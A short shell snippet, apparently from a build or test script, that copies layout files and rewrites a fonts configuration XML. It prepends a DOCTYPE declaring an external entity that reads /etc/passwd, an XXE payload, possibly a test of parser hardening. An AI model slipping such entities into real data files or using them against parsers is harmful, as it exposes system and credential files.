mkdir -p "$W/data/fonts"
cp -r "$TOP/layouts" "$W/data/"
{ printf '<?xml version="1.0"?>\n<!DOCTYPE fontsets [ <!ENTITY f SYSTEM "file:///etc/passwd"> ]>\n'
  sed 1d "$TOP/fonts/fontsets.xml"; } >"$W/data/fonts/fontsets.xml"
